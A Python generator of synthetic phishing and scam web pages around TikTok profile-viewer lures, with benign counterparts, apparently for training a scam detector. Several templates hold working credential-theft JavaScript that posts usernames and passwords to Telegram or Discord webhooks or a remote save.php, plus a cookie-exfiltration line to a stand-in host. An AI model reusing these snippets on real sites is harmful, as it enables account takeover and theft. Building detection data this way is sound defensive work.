"""Compact page templates: one per scam family of SIGNALS.md §2 and the hard negatives of §6.

Each template returns (title, body, scripts, subtype); ``pages_compact`` dresses it in the compact
shared skeletons and gives it a location. Brands other than TikTok are fictional.
"""

from __future__ import annotations

import random
from collections.abc import Callable

from data.generator.common import esc
from data.generator.pages_compact_phrases import P
from data.generator.pages_scam_kits import BRANDS as KIT_BRANDS

Built = tuple[str, str, str, str]  # title, body, scripts, subtype
WORDS = [
    "view",
    "spy",
    "track",
    "insight",
    "stat",
    "free",
    "fan",
    "boost",
    "star",
    "glow",
    "pulse",
    "check",
    "social",
    "trend",
    "clip",
    "wave",
    "pro",
    "hub",
    "lab",
    "zone",
]


def pick(rng: random.Random, key: str, lang: str) -> str:
    table = P[key]
    return rng.choice(table.get(lang) or table["en"])


def fill(text: str, rng: random.Random) -> str:
    return text.format(
        n=rng.choice(["1,000", "5000", "10K", "25,000", "2500"]),
        year=rng.choice(["2025", "2026"]),
        price=rng.choice(["19,90", "27,00", "9.99", "4.99"]),
        user="@" + rng.choice(WORDS) + str(rng.randint(1, 99)),
    )


def _brand(rng: random.Random) -> str:
    return rng.choice(
        [
            '<img src="/img/tiktok-logo.svg" alt="TikTok">',
            '<div class="logo">TikTok</div>',
            '<svg class="tiktok-icon"></svg><span>TikTok</span>',
            '<h2 style="font-family:TikTokFont">TikTok</h2>',
        ]
    )


def _login(rng: random.Random, lang: str, action: str, otp: bool = False) -> str:
    user = '<input name="username" placeholder="{}">'.format(esc(pick(rng, "username", lang)))
    if rng.random() < 0.3:
        user = '<input type="tel" name="phone" placeholder="Phone">'
    pw = '<input type="password" name="{}" placeholder="{}">'.format(
        rng.choice(["password", "pass", "pwd"]),
        esc(pick(rng, "password", lang)),
    )
    code = '<input name="otp" placeholder="Verification code">' if otp else ""
    return f'<form action="{esc(action)}" method="post">{user}{pw}{code}<button type="submit">{esc(pick(rng, "login_label", lang))}</button></form>'


# ----------------------------------------------------------------------------- scams
def phish_kit(rng: random.Random, lang: str) -> Built:
    action = rng.choice(["login.php", "post.php", "next.php", "auth/login.php"])
    title = fill(pick(rng, rng.choice(["scam_title", "free_title"]), lang), rng)
    body = f"{_brand(rng)}<h1>{esc(title)}</h1><p>{esc(fill(pick(rng, 'scam_pitch', lang), rng))}</p>{_login(rng, lang, action)}"
    return title, body, "", "credential_phishing"


def phish_offsite(rng: random.Random, lang: str) -> Built:
    collector = f"https://{rng.choice(WORDS)}{rng.randint(1, 99)}.{rng.choice(['ru', 'xyz', 'com', 'top'])}/{rng.choice(['save', 'log', 'c.php', 'api/in'])}"
    title = fill(pick(rng, "scam_title", lang), rng)
    body = f"{_brand(rng)}<h2>{esc(pick(rng, 'login_label', lang))}</h2>{_login(rng, lang, collector, otp=rng.random() < 0.3)}<p>{esc(fill(pick(rng, 'scam_pitch', lang), rng))}</p>"
    redirect = (
        "<script>document.forms[0].onsubmit=function(){setTimeout(function(){location.href='https://www.tiktok.com/'},800)}</script>"
        if rng.random() < 0.5
        else ""
    )
    return title, body, redirect, "credential_phishing"


def phish_relay(rng: random.Random, lang: str) -> Built:
    relay = rng.choice(
        [
            f"https://api.telegram.org/bot{rng.randint(10**9, 10**10)}:AA{''.join(rng.choices('abcdefXYZ0123', k=20))}/sendMessage",
            f"https://discord.com/api/webhooks/{rng.randint(10**17, 10**18)}/{''.join(rng.choices('abcdefXYZ0123_-', k=30))}",
        ]
    )
    title = fill(pick(rng, rng.choice(["scam_title", "free_title"]), lang), rng)
    body = f"{_brand(rng)}<h1>{esc(title)}</h1>{_login(rng, lang, '#', otp=rng.random() < 0.4)}"
    ipl = (
        "fetch('https://api.ipify.org?format=json').then(r=>r.json()).then(d=>ip=d.ip);"
        if rng.random() < 0.6
        else ""
    )
    script = (
        f"<script>var ip='';{ipl}document.querySelector('form').addEventListener('submit',function(e){{e.preventDefault();"
        f"fetch('{relay}',{{method:'POST',body:JSON.stringify({{text:this.username.value+':'+this.querySelector('[type=password]').value+' '+ip}})}})"
        ".then(function(){location.href='https://www.tiktok.com/login'})});</script>"
    )
    return title, body, script, "credential_phishing"


def locker(rng: random.Random, lang: str) -> Built:
    title = fill(pick(rng, rng.choice(["free_title", "scam_title"]), lang), rng)
    amounts = "".join(
        f'<label><input type="radio" name="amount" value="{a}"> {a}</label>'
        for a in rng.sample(["1000", "5000", "10000", "25000", "50000"], 3)
    )
    steps = "".join(f"<li>{esc(s)}</li>" for s in P["progress"].get(lang, P["progress"]["en"]))
    net = rng.choice(
        [
            '<script src="https://d1y3bjxf.cloudfront.net/public/external/check2.php?id=42"></script><script>var _JF=1;</script>',
            '<script src="https://pagelocked.org/cp/js/7788.js"></script>',
            '<script src="https://www.cpagrip.com/script_include.php?id=1234"></script>',
            "<script>function CPBContentLocker(){}</script>",
            '<a href="https://applocked.org/cl/i/abc">Verify</a>',
            "",
        ]
    )
    body = (
        f"<h1>{esc(title)}</h1><p>{esc(fill(pick(rng, 'free_pitch', lang), rng))}</p><form><input name='username' placeholder='@username'>{amounts}"
        f"<button type='button'>Generate</button></form><ol class='steps'>{steps}</ol><div class='locker'><p>{esc(pick(rng, 'verify_human', lang))}</p></div>"
    )
    if rng.random() < 0.5:
        body += f"<div class='live'>{esc(rng.choice(['maria', 'joao', 'budi', 'ali']))} just received 5000 followers</div>"
    script = (
        net
        + "<script>var p=0;setInterval(function(){p+=7;document.querySelector('.bar').style.width=p+'%'},300)</script>"
    )
    return title, body, script, rng.choice(["content_locker", "offer_wall_survey"])


def cookie_theft(rng: random.Random, lang: str) -> Built:
    l2 = lang if lang in P["cookie_steps"] else "en"
    title = fill(pick(rng, "scam_title", l2), rng)
    steps = "".join(f"<li>{esc(s)}</li>" for s in P["cookie_steps"][l2])
    body = f"<h1>{esc(title)}</h1><ol>{steps}</ol><form action='/activate' method='post'><textarea name='sessionid' placeholder='sessionid=...'></textarea><button>Activate</button></form>"
    if rng.random() < 0.4 and "console_steps" in P and l2 in P["console_steps"]:
        body += "<pre>javascript:fetch('//x.example/c?'+document.cookie)</pre>" + "".join(
            f"<p>{esc(s)}</p>" for s in P["console_steps"][l2]
        )
    return title, body, "", "session_cookie_theft"


def apk(rng: random.Random, lang: str) -> Built:
    l2 = lang if lang in P["apk"] else "en"
    a, b = P["apk"][l2]
    title = fill(pick(rng, "scam_title", lang), rng)
    body = f"<h1>{esc(a)}</h1><p>{esc(b)}</p><a class='btn' href='/files/tiktok-pro-viewer-v{rng.randint(2, 9)}.apk'>Download APK</a><p>{esc(fill(pick(rng, 'scam_pitch', lang), rng))}</p>"
    return title, body, "", "malware_apk"


def spy_report(rng: random.Random, lang: str) -> Built:
    l2 = lang if lang in P["spy"] else "pt"
    s = [fill(x, rng) for x in P["spy"][l2]]
    title = fill(pick(rng, "scam_title", l2), rng)
    blurred = "".join(
        f"<li class='blur'>@{'*' * rng.randint(4, 9)} — {rng.randint(1, 12)}x</li>"
        for _ in range(rng.randint(3, 8))
    )
    body = (
        f"<h1>{esc(title)}</h1><p>{esc(s[0])}</p><form><input name='profile' placeholder='@usuario'><button>Analisar</button></form>"
        f"<ul class='results'>{blurred}</ul><p>{esc(s[1])}</p><button>{esc(s[2])}</button><small>{esc(s[3])}</small>"
    )
    return title, body, "", "spy_report_fabricated"


def seo_spam(rng: random.Random, lang: str) -> Built:
    title = (
        fill(pick(rng, "free_title", lang), rng)
        + " "
        + "".join(rng.choices("abcdefghijk0123456789", k=6))
    )
    para = " ".join(
        fill(pick(rng, k, lang), rng)
        for k in rng.choices(["free_pitch", "scam_pitch", "free_title"], k=6)
    )
    links = "".join(
        f"<a href='https://{rng.choice(WORDS)}.{rng.choice(['xyz', 'top'])}/go'>{esc(fill(pick(rng, 'free_title', lang), rng))}</a> "
        for _ in range(4)
    )
    return title, f"<h1>{esc(title)}</h1><p>{esc(para)}</p><p>{links}</p>", "", "seo_spam"


def fake_oauth(rng: random.Random, lang: str) -> Built:
    title = fill(pick(rng, "scam_title", lang), rng)
    if rng.random() < 0.5:
        href = f"https://tiktok-{rng.choice(WORDS)}.{rng.choice(['xyz', 'top', 'app'])}/oauth/authorize?client_id=123&scope=user.viewers,profile.visitors&redirect_uri=http://x.example/cb"
    else:
        href = "https://www.tiktok.com/v2/auth/authorize/?client_key=YOUR_CLIENT_KEY&response_type=code&scope=user.info.basic,video.publish,video.upload&redirect_uri=https://viewer-app.example/cb?x=1"
    body = f"<h1>{esc(title)}</h1><p>{esc(fill(pick(rng, 'scam_pitch', lang), rng))}</p><a class='btn' href='{esc(href)}'>Continue with TikTok</a>"
    return title, body, "", "credential_phishing"


def fabricated_list(rng: random.Random, lang: str) -> Built:
    title = fill(pick(rng, "scam_title", lang), rng)
    rows = "".join(
        f"<tr><td>@{rng.choice(WORDS)}{rng.randint(1, 999)}</td><td>{rng.randint(1, 23)}h</td></tr>"
        for _ in range(rng.randint(4, 10))
    )
    body = f"<h1>{esc(title)}</h1><p>{esc(fill(pick(rng, 'scam_pitch', lang), rng))}</p><form><input name='username' placeholder='@username'><button>Check</button></form><table>{rows}</table>"
    if rng.random() < 0.5:
        body += f"<p>{esc(pick(rng, 'verify_human', lang))}</p>"
    return title, body, "", "spy_report_fabricated"


BRANDS = [name for name, _host, _path in KIT_BRANDS]
BRAND_HOSTS = {name: host + path for name, host, path in KIT_BRANDS}


def _brand_login(rng: random.Random, brand: str, action: str) -> str:
    logo = rng.choice(
        [
            f'<img src="/img/{brand.lower()}-logo.png" alt="{brand}">',
            f'<div class="logo">{brand}</div>',
        ]
    )
    user = rng.choice(["Phone number, username, or email", "Email or phone", "Username"])
    return (
        f"{logo}<form action='{esc(action)}' method='post'><input name='{rng.choice(['email', 'username', 'login'])}' placeholder='{user}'>"
        f"<input type='password' name='{rng.choice(['pass', 'password'])}' placeholder='Password'><button type='submit'>Log in</button></form>"
        "<a href='/forgot'>Forgot password?</a>"
    )


def other_brand_kit(rng: random.Random, lang: str) -> Built:
    brand = rng.choice(BRANDS)
    lure = rng.choice(
        [
            f"Get free {brand} followers",
            f"Verified badge for {brand}",
            f"{brand} security check",
            f"Vote for me! Log in with {brand} to vote",
            f"Log in to {brand}",
            "",
        ]
    )
    action = rng.choice(
        ["login.php", "post.php", "index2.php", "https://" + rng.choice(WORDS) + ".xyz/p.php", "#"]
    )
    body = (f"<h1>{esc(lure or brand)}</h1>" if lure else "") + _brand_login(rng, brand, action)
    script = ""
    if action == "#":
        script = (
            "<script>document.forms[0].onsubmit=function(e){e.preventDefault();$.post('https://"
            + rng.choice(WORDS)
            + ".top/save.php',$(this).serialize(),function(){location.href='https://www."
            + brand.lower()
            + ".com'})}</script>"
        )
    return f"{brand} - {lure or 'Log in'}", body, script, "credential_phishing"


def genuine_brand_login(rng: random.Random, lang: str) -> Built:
    brand = rng.choice(BRANDS)
    body = _brand_login(
        rng,
        brand,
        rng.choice(
            [
                "/login/device-based/regular/login/",
                "/accounts/login/ajax/",
                "/session",
                "/signin/v2/challenge",
            ]
        ),
    )
    script = (
        "<script>window.__INITIAL_STATE__={};function encrypt(p){return btoa(p)}</script>"
        if rng.random() < 0.5
        else ""
    )
    return f"{brand} • Log in", body, script, "ordinary_login"


# ----------------------------------------------------------------------------- benign
def explainer(rng: random.Random, lang: str) -> Built:
    q = pick(rng, "explainer_q", lang)
    answers = list(P["explainer_a"].get(lang, P["explainer_a"]["en"]))
    rng.shuffle(answers)
    body = f"<h1>{esc(q)}</h1>" + "".join(f"<p>{esc(a)}</p>" for a in answers)
    if rng.random() < 0.4:
        body += f"<h2>{esc(pick(rng, 'explainer_q', lang))}</h2><p>{esc(answers[0])}</p>"
    return q, body, "", "explainer"


def news(rng: random.Random, lang: str) -> Built:
    head = rng.choice(
        [
            "Scam sites promising to reveal TikTok viewers are stealing passwords",
            "Police warn about fake 'free followers' generators",
            "TikTok adds profile view history: what it shows and what it does not",
            "Researchers find fake 'who viewed my profile' extensions in browser stores",
        ]
    )
    a = P["explainer_a"]["en"]
    body = f"<h1>{esc(head)}</h1><p class='byline'>By staff reporter</p><p>{esc(a[2])}</p><p>{esc(a[0])}</p><p>Experts advise never to enter a TikTok password outside tiktok.com.</p>"
    return head, body, "", "news"


def tiktok_help(rng: random.Random, lang: str) -> Built:
    title = rng.choice(
        [
            "Profile view history | TikTok Help Center",
            "Post view history | TikTok Help Center",
            "Account safety | TikTok",
        ]
    )
    body = (
        "<h1>Profile view history</h1><p>Profile view history lets you see who viewed your profile in the past 30 days. "
        "It is off by default. You can turn it on in Settings and privacy. Both you and the viewer must have it turned on.</p>"
        "<p>It is available to users 16 and older with fewer than 5,000 followers.</p><p>You can't see who saved or shared a video; you see the counts.</p>"
    )
    return title, body, "", "tiktok_official"


def tiktok_login(rng: random.Random, lang: str) -> Built:
    title = "Log in | TikTok"
    body = f"{_brand(rng)}<h2>{esc(pick(rng, 'login_label', lang))}</h2>{_login(rng, lang, '', otp=False)}<a href='/signup'>Sign up</a>"
    script = "<script>window.__UNIVERSAL_DATA__={};function encryptPassword(p){return p.split('').map(function(c){return (c.charCodeAt(0)^5).toString(16)}).join('')}</script>"
    return title, body, script, "tiktok_login"


def tiktok_consent(rng: random.Random, lang: str) -> Built:
    app = rng.choice(["Clipboard Analytics", "Postwise", "Creator Desk", "Metricly"])
    body = (
        f"{_brand(rng)}<h1>{esc(app)} would like to access your TikTok account</h1><ul><li>Read your profile info (avatar, display name)</li>"
        "<li>Read your public videos</li></ul><button>Authorize</button><button>Cancel</button>"
    )
    return f"TikTok - Authorize {app}", body, "", "tiktok_oauth_consent"


def oauth_tool(rng: random.Random, lang: str) -> Built:
    app = rng.choice(["Statsy", "Creatorboard", "ClipMetrics", "Postbird", "Growthdesk"])
    key = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=rng.choice([16, 17, 18])))
    scopes = rng.choice(
        [
            "user.info.basic,video.list",
            "user.info.basic,user.info.stats,video.list",
            "user.info.basic,video.upload,video.publish",
        ]
    )
    href = (
        f"https://www.tiktok.com/v2/auth/authorize/?client_key={key}&response_type=code&scope={scopes}"
        f"&redirect_uri=https://{app.lower()}.com/auth/callback&state={rng.randint(10**8, 10**9)}&code_challenge=abc{rng.randint(1, 999)}&code_challenge_method=S256"
    )
    body = (
        f"<h1>{esc(app)}: analytics for creators</h1><p>See your follower growth, views per video and the best time to post.</p>"
        f"<a class='btn' href='{esc(href)}'>Continue with TikTok</a><p>We never see your password: you log in on tiktok.com. "
        "You can revoke access in Settings › Privacy › Manage app permissions.</p>"
    )
    if rng.random() < 0.5:
        body += f"<p>{esc(P['explainer_a']['en'][1])}</p>"
    return f"{app} — TikTok analytics", body, "", "legit_oauth_tool"


def public_analytics(rng: random.Random, lang: str) -> Built:
    name = rng.choice(["Tokstat", "Trendlens", "Countsy", "Fanlytics"])
    body = (
        f"<h1>{esc(name)}</h1><p>Type any public TikTok username to see public numbers: followers, likes, video views and engagement rate.</p>"
        "<form action='/search'><input name='q' placeholder='@username'><button>Search</button></form>"
        "<p>We only show public data. We cannot show who viewed a profile, because TikTok does not share that.</p>"
    )
    return f"{name} - TikTok stats", body, "", "public_analytics"


def first_party(rng: random.Random, lang: str) -> Built:
    site = rng.choice(["Matchly", "Proconnect", "Datewise", "Workfolio"])
    body = (
        f"<h1>See who viewed your {esc(site)} profile</h1><p>Members of {esc(site)} can see who visited their profile on {esc(site)} in the last 90 days.</p>"
        f"<form action='/login' method='post'><input name='email' type='email' placeholder='Email'><input type='password' name='password' placeholder='Password'><button>Log in to {esc(site)}</button></form>"
    )
    return f"{site} — Who viewed you", body, "", "first_party_viewers"


def ordinary(rng: random.Random, lang: str) -> Built:
    kind = rng.choice(["shop", "forum", "recipe"])
    if kind == "forum":
        body = "<h1>Community forum</h1><form action='/login' method='post'><input name='user' placeholder='Username'><input type='password' name='pass'><button>Sign in</button></form><p>Latest threads about cameras and editing.</p>"
        return "Forum - Sign in", body, "", "ordinary_login"
    if kind == "shop":
        body = f"<h1>Winter sale</h1><p>Limited time: {rng.randint(10, 50)}% off ring lights and tripods for creators.</p><div class='countdown'>Offer expires in 02:13:44</div><button>Shop now</button>"
        return "Creator gear shop", body, "", "ordinary"
    body = "<h1>Easy pancakes</h1><p>Mix flour, milk and eggs. Cook on a hot pan. Share your version on TikTok!</p>"
    return "Pancake recipe", body, "", "ordinary"


SCAM: dict[str, Callable[[random.Random, str], Built]] = {
    "phish_kit": phish_kit,
    "phish_offsite": phish_offsite,
    "phish_relay": phish_relay,
    "locker": locker,
    "cookie_theft": cookie_theft,
    "apk": apk,
    "spy_report": spy_report,
    "seo_spam": seo_spam,
    "fake_oauth": fake_oauth,
    "fabricated_list": fabricated_list,
    "other_brand_kit": other_brand_kit,
}
BENIGN: dict[str, Callable[[random.Random, str], Built]] = {
    "explainer": explainer,
    "news": news,
    "tiktok_help": tiktok_help,
    "tiktok_login": tiktok_login,
    "tiktok_consent": tiktok_consent,
    "oauth_tool": oauth_tool,
    "public_analytics": public_analytics,
    "first_party": first_party,
    "ordinary": ordinary,
    "genuine_brand_login": genuine_brand_login,
}
